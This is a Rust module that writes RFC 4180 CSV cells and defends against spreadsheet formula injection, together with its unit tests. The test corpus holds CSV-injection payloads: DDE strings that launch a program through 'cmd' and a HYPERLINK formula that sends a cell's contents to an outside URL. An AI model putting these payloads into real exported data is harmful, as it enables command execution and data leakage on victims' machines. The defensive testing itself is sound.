//! Cells of a table as text (RFC 4180), none of which a spreadsheet takes for a formula.

/// What spreadsheets begin a formula with, in ASCII and in its full-width likeness.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// What is not seen, and may be skipped before a formula.
fn is_blank(letter: char) -> bool {
    letter.is_whitespace()
        || letter.is_control()
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

fn is_formula(text: &str) -> bool {
    text.starts_with(['\t', '\r']) || text.trim_start_matches(is_blank).starts_with(FORMULA)
}

/// Adds a row.
pub(super) fn row<'a>(out: &mut String, cells: impl IntoIterator<Item = &'a str>) {
    for (at, text) in cells.into_iter().enumerate() {
        if at > 0 {
            out.push(',');
        }
        cell(out, text);
    }
    out.push_str("\r\n");
}

fn cell(out: &mut String, text: &str) {
    let guard = if is_formula(text) { "'" } else { "" };
    if !text.contains(['"', ',', '\r', '\n']) {
        out.push_str(guard);
        out.push_str(text);
        return;
    }
    out.push('"');
    out.push_str(guard);
    for letter in text.chars() {
        if letter == '"' {
            out.push('"');
        }
        out.push(letter);
    }
    out.push('"');
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Reads rows back by RFC 4180 and nothing else.
    fn read(text: &str) -> Vec<Vec<String>> {
        let (mut rows, mut cells, mut now, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
        let mut letters = text.chars().peekable();
        while let Some(letter) = letters.next() {
            match letter {
                '"' if quoted && letters.peek() == Some(&'"') => now.extend(letters.next()),
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(std::mem::take(&mut now)),
                '\r' if !quoted => {
                    assert_eq!(letters.next(), Some('\n'));
                    cells.push(std::mem::take(&mut now));
                    rows.push(std::mem::take(&mut cells));
                }
                letter => now.push(letter),
            }
        }
        assert!(!quoted && cells.is_empty() && now.is_empty(), "the text ends after a row");
        rows
    }

    /// What people have been hurt by, and what merely looks odd.
    const CORPUS: [&str; 28] = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org?\"&A1,\"Click\")",
        "+1+2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "＠SUM(A1)",
        "=1,2",
        "=\"\"",
        "-",
        "",
        " ",
        "a,b",
        "a\"b\"",
        "\"",
        "line\nbreak",
        "line\r\nbreak",
        "\n=1+1",
        " =1+1",
        "\u{a0}\u{200b}=1+1",
        "\u{feff}@SUM(A1)",
        " ordinary",
        "'",
        "\u{202e}abc\0",
        "ordinary text",
        "🚣 Ruderverein",
    ];

    #[test]
    fn every_text_reads_back_but_for_the_guard_of_what_looks_like_a_formula() {
        for text in CORPUS {
            let mut out = String::new();
            row(&mut out, [text, "next"]);
            let rows = read(&out);
            assert_eq!(rows.len(), 1, "{text:?}");
            let (found, next) = (&rows[0][0], &rows[0][1]);
            assert_eq!(next, "next");
            assert!(!is_formula(found), "{text:?} became {found:?}");
            assert_eq!(found.strip_prefix('\'').filter(|_| is_formula(text)).unwrap_or(found), text);
        }
    }

    #[test]
    fn a_row_of_empty_cells_keeps_them() {
        let mut out = String::new();
        row(&mut out, ["", "", ""]);
        assert_eq!(out, ",,\r\n");
    }
}
